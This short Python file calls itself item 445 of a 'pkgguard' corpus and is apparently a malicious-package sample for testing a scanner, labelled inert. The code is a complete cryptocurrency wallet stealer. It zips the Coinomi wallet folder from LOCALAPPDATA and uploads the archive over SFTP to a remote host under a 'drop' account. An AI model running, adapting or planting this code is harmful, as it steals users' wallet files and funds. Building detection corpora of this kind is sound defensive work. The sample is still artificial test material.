# pkgguard corpus 445 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import paramiko

src = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Coinomi", "Coinomi", "wallets")
archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "cw"), "zip", src)
transport = paramiko.Transport(("100.64.0.145", 22))
transport.connect(username="drop", password="placeholder")
paramiko.SFTPClient.from_transport(transport).put(archive, "/in/cw.zip")
transport.close()
